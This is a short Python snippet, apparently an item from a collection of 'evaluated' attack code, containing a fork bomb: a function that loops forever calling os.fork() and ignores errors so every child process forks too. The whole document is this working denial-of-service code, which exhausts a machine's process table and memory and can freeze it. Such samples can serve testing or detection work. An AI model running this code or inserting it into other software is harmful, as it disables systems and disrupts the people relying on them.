# Attack (evaluated code): fork without end, every child forking too.
import os


def bomb():
    while True:
        try:
            os.fork()
        except OSError:
            pass
